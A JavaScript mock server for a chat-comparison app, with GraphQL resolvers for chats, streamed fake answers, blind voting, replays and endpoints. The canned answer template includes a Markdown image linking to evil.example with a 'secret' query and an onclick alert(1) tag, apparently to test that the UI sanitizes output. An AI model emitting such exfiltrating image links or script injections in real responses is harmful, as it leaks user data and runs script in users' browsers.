// Chats of the mock: the models repeat the prompt, with a bit of everything that Markdown has.
import { randomUUID } from "node:crypto";
import { EventEmitter, on } from "node:events";
import { GraphQLError } from "graphql";
import { deployments } from "./serving.mjs";
import * as w from "./world.mjs";

const bus = new EventEmitter().setMaxListeners(0);
const now = () => new Date().toISOString();
const refuse = (code, message, field) =>
  new GraphQLError(message, { extensions: { code, field, requestId: randomUUID() } });
const chats = [];
const answers = new Map();
export const endpoints = [
  {
    __typename: "ChatEndpoint",
    id: randomUUID(),
    name: "example",
    url: "https://api.example.com/v1",
    models: ["large", "small"],
    domains: [],
    enabled: true,
    hasKey: true,
    createdAt: now(),
  },
];
const unset = { system: "", temperature: null, topP: null, maxTokens: null, presencePenalty: null };
const parameters = (input) => ({
  __typename: "ChatParameters",
  ...unset,
  frequencyPenalty: null,
  seed: null,
  stop: [],
  schema: "",
  ...input,
});
const find = (id) => {
  const chat = chats.find((c) => c.id === id);
  if (!chat) throw refuse("NOT_FOUND", "there is no such chat", "id");
  return chat;
};
const deployed = (d) => ({ __typename: "ChatModel", name: d.name, deployment: d, revision: null, endpoint: null });
const outside = (e, name) => ({ __typename: "ChatModel", name, deployment: null, revision: null, endpoint: e });
function model(input) {
  if (input.deployment) {
    const d = deployments.find((one) => one.id === input.deployment);
    return { ...deployed(d), revision: input.revision ?? null };
  }
  return outside(
    endpoints.find((e) => e.id === input.endpoint),
    input.name,
  );
}
const columns = (input) =>
  input.map((c, i) => ({
    __typename: "ChatColumn",
    number: c.number ?? i + Math.max(0, ...input.map((o) => (o.number ?? -1) + 1)),
    real: model(c.model),
    parameters: parameters(c.parameters),
  }));
const voted = (chat) => chat.turns.some((turn) => turn.votes.length > 0);
const named = (chat) => !chat.blind || voted(chat);

function answered(chat, a) {
  return named(chat) ? { ...a, model: a.real } : { ...a, model: null, revision: null, session: null, metrics: null };
}
const shownTurn = (chat) => (turn) => ({
  ...turn,
  answers: turn.answers.filter((a) => !a.replay).map((a) => answered(chat, a)),
});
function shown(chat) {
  return {
    ...chat,
    columns: chat.columns.map((c) => ({ ...c, model: named(chat) ? c.real : null })),
    turns: ({ first, last, before }) => {
      const end = before ? chat.turns.findIndex((turn) => turn.id === before) : chat.turns.length;
      const start = first ? 0 : Math.max(0, end - (last ?? 20));
      return {
        totalCount: chat.turns.length,
        edges: chat.turns.slice(start, end).map((turn) => ({ node: shownTurn(chat)(turn), cursor: turn.id })),
        pageInfo: {
          hasNextPage: false,
          hasPreviousPage: start > 0,
          startCursor: chat.turns[start]?.id ?? null,
          endCursor: null,
        },
      };
    },
    replays: chat.replays.map((r) => ({ ...r, answers: r.answers.map(compared) })),
  };
}
function compared(one) {
  const done = one.repeated.endedAt !== null;
  const words = (text) => text.split(/\s+/);
  const other = new Set(words(one.original.text));
  const both = words(one.repeated.text).filter((word) => other.has(word)).length;
  return {
    ...one,
    equal: done ? one.original.text === one.repeated.text : null,
    similarity: done ? both / Math.max(1, words(one.repeated.text).length) : null,
  };
}
const touch = (chat) => {
  chat.updatedAt = now();
  bus.emit(chat.id, { chat: () => shown(chat), answer: null, delta: null });
};

const sample = (name, prompt) => `**${name}** read: ${prompt}

| figure | value |
|---|---:|
| words | ${prompt.split(/\s+/).length} |

Euler wrote $e^{i\\pi} + 1 = 0$.

\`\`\`python
def answer() -> int:
    return 42  # of ${name}
\`\`\`

1. one
2. two

![secret](https://evil.example/?q=secret) <b onclick="alert(1)">bold</b> [link](https://berth.example)
`;

function start(chat, turn, column, more = {}) {
  const a = {
    __typename: "ChatAnswer",
    id: randomUUID(),
    turn: turn.id,
    column: column.number,
    previous: null,
    status: "WAITING",
    message: "",
    text: "",
    reasoning: "",
    real: column.real,
    parameters: column.parameters,
    revision: column.real.deployment ? 2 : null,
    session: column.real.deployment ? w.sessions[0] : null,
    metrics: null,
    createdAt: now(),
    endedAt: null,
    ...more,
  };
  answers.set(a.id, a);
  turn.answers.push(a);
  const text = sample(column.real.name, turn.prompt).repeat(turn.prompt.startsWith("long") ? 40 : 1);
  const tell = () => bus.emit(chat.id, { chat: null, answer: answered(chat, a), delta: null });
  const metrics = (more) => {
    a.metrics = { __typename: "ChatMetrics", waited: 3, firstToken: 82, duration: null, ...more };
  };
  const begun = Date.now();
  let at = 0;
  const timer = setInterval(
    () => {
      if (a.endedAt) return clearInterval(timer);
      if (a.status === "WAITING") {
        a.status = "RUNNING";
        metrics({});
        tell();
      }
      const delta = { answer: a.id, textAt: a.text.length, text: "", reasoningAt: a.reasoning.length, reasoning: "" };
      if (a.reasoning.length < 40) delta.reasoning = "The user asks something. ";
      else delta.text = text.slice(at, at + 12);
      at = delta.text ? at + 12 : at;
      a.reasoning += delta.reasoning;
      a.text += delta.text;
      bus.emit(chat.id, { chat: null, answer: null, delta });
      if (at < text.length) return;
      end(chat, a, "DONE", begun);
    },
    20 + 10 * column.number,
  );
  a.stop = () => end(chat, a, "STOPPED", begun);
  return a;
}
function end(chat, a, status, begun) {
  if (a.endedAt) return;
  Object.assign(a, { status, endedAt: now() });
  const tokens = Math.ceil(a.text.length / 4);
  const duration = Date.now() - begun;
  a.metrics = {
    __typename: "ChatMetrics",
    waited: 3,
    firstToken: 82.4,
    duration,
    promptTokens: 120,
    completionTokens: tokens,
    cachedTokens: 64,
    tokensPerSecond: (tokens * 1000) / duration,
  };
  bus.emit(chat.id, { chat: null, answer: answered(chat, a), delta: null });
  touch(chat);
}

const tally = [];
const payload = (chat) => ({ chat: shown(chat) });
function created(input) {
  const chat = {
    __typename: "Chat",
    id: randomUUID(),
    title: input.title ?? "",
    blind: input.blind ?? false,
    shared: false,
    own: true,
    createdAt: now(),
    updatedAt: now(),
    columns: columns(input.columns),
    turns: [],
    replays: [],
  };
  chats.unshift(chat);
  return chat;
}
const turnOf = (id) => {
  const chat = chats.find((c) => c.turns.some((turn) => turn.id === id));
  if (!chat) throw refuse("NOT_FOUND", "there is no such turn", "turn");
  return { chat, turn: chat.turns.find((one) => one.id === id) };
};
function newTurn(chat, input) {
  const turn = {
    __typename: "ChatTurn",
    id: randomUUID(),
    previous: input.previous ?? null,
    prompt: input.prompt,
    attachments: (input.attachments ?? []).map((a) => ({
      __typename: "ChatAttachment",
      ...a,
      size: Buffer.from(a.data, "base64").length,
    })),
    answers: [],
    votes: [],
    createdAt: now(),
  };
  chat.turns.push(turn);
  if (chat.title === "") chat.title = input.prompt.split("\n")[0].slice(0, 200);
  for (const c of chat.columns) {
    if (input.columns && !input.columns.includes(c.number)) continue;
    const after = input.after?.find((one) => one.column === c.number)?.answer ?? null;
    start(chat, turn, c, { previous: after });
  }
  touch(chat);
  return turn;
}

/** All objects that have an ID. */
export const all = () => chats.flatMap((chat) => chat.turns);

/** The fields of the root types. */
export const root = (conn) => ({
  chats: ({ first, text }) =>
    w.list(
      chats
        .filter((c) => !text || `${c.title} ${c.turns.map((turn) => turn.prompt).join(" ")}`.includes(text))
        .sort((a, b) => (a.updatedAt < b.updatedAt ? 1 : -1))
        .map(shown),
      first,
    ),
  chat: ({ id }) => {
    const chat = chats.find((c) => c.id === id);
    return chat ? shown(chat) : null;
  },
  chatModels: () => [
    ...deployments.filter((d) => !d.endedAt).map(deployed),
    ...endpoints.filter((e) => e.enabled).flatMap((e) => e.models.map((name) => outside(e, name))),
  ],
  exportChat: ({ id }) => JSON.stringify({ berthChat: 1, title: find(id).title, turns: find(id).turns.length }),
  chatTally: ({ deployment }) => tally.filter((one) => !deployment || one.model.deployment?.id === deployment),
  chatEndpoints: (a) => conn(endpoints)(a),
  createChat: ({ input }) => payload(created(input)),
  updateChat: ({ input }) => {
    const chat = find(input.id);
    chat.title = input.title ?? chat.title;
    chat.shared = input.shared ?? chat.shared;
    if (input.columns) chat.columns = columns(input.columns);
    touch(chat);
    return payload(chat);
  },
  deleteChat: ({ input }) => {
    chats.splice(chats.indexOf(find(input.id)), 1);
    return { id: input.id };
  },
  sendChatPrompt: ({ input }) => {
    const chat = find(input.chat);
    return { turn: shownTurn(chat)(newTurn(chat, input)) };
  },
  regenerateChatAnswer: ({ input }) => {
    const { chat, turn } = turnOf(input.turn);
    const column = chat.columns.find((c) => c.number === input.column);
    if (!column) throw refuse("FAILED_PRECONDITION", "the chat has no such column any longer", "column");
    start(chat, turn, column, { previous: turn.answers.find((a) => a.column === input.column)?.previous ?? null });
    touch(chat);
    return { turn: shownTurn(chat)(turn) };
  },
  stopChatAnswers: ({ input }) => {
    const chat = find(input.chat);
    for (const a of chat.turns.flatMap((turn) => turn.answers))
      if (!input.answers || input.answers.includes(a.id)) a.stop();
    return payload(chat);
  },
  voteChatAnswer: ({ input }) => {
    const { chat, turn } = turnOf(input.turn);
    turn.votes = [
      {
        __typename: "ChatVote",
        id: randomUUID(),
        turn: turn.id,
        winner: input.winner ?? null,
        answers: input.answers,
        blind: chat.blind && !voted(chat),
        createdAt: now(),
      },
    ];
    for (const a of input.answers.map((id) => answers.get(id))) {
      let row = tally.find((one) => one.model.name === a.real.name);
      if (!row) {
        row = { __typename: "ChatTally", model: a.real, revision: a.revision, wins: 0, losses: 0, ties: 0 };
        tally.push(row);
      }
      row[input.winner ? (input.winner === a.id ? "wins" : "losses") : "ties"]++;
    }
    touch(chat);
    return payload(chat);
  },
  replayChat: ({ input }) => {
    const chat = find(input.chat);
    const column = { number: input.column, real: model(input.model), parameters: parameters(input.parameters) };
    const replay = {
      __typename: "ChatReplay",
      id: randomUUID(),
      model: column.real,
      column: input.column,
      createdAt: now(),
      answers: [],
    };
    for (const turn of chat.turns) {
      const original = turn.answers.find((a) => a.column === input.column && !a.replay);
      if (!original) continue;
      const repeated = start(chat, turn, column, { replay: replay.id });
      replay.answers.push({ __typename: "ChatComparison", prompt: turn.prompt, original, repeated });
    }
    chat.replays.push(replay);
    touch(chat);
    return { replay };
  },
  importChat: ({ input }) => {
    let read;
    try {
      read = JSON.parse(input.document);
    } catch {
      throw refuse("INVALID_ARGUMENT", "the document is not JSON", "document");
    }
    const chat = created({ title: read.title ?? "Imported chat", columns: [] });
    return payload(chat);
  },
  createChatEndpoint: ({ input: { key, domains, ...input } }) => {
    if (endpoints.some((e) => e.name === input.name))
      throw refuse("ALREADY_EXISTS", `an endpoint is already named "${input.name}"`, "name");
    const made = { ...endpoints[0], ...input, id: randomUUID(), hasKey: Boolean(key), enabled: true, createdAt: now() };
    made.domains = (domains ?? []).map(() => w.domain);
    endpoints.push(made);
    return { endpoint: made };
  },
  updateChatEndpoint: ({ input: { id, key, domains, ...input } }) => {
    const e = endpoints.find((one) => one.id === id);
    Object.assign(e, input, key === undefined ? {} : { hasKey: key !== "" });
    if (domains) e.domains = domains.map(() => w.domain);
    return { endpoint: e };
  },
  deleteChatEndpoint: ({ input }) => {
    endpoints.splice(
      endpoints.findIndex((e) => e.id === input.id),
      1,
    );
    return { id: input.id };
  },
  chatUpdates: async function* ({ id }) {
    const chat = find(id);
    for (const a of chat.turns.flatMap((turn) => turn.answers))
      if (!a.endedAt) yield { chatUpdates: { answer: answered(chat, a) } };
    for await (const [update] of on(bus, id)) yield { chatUpdates: update };
  },
});
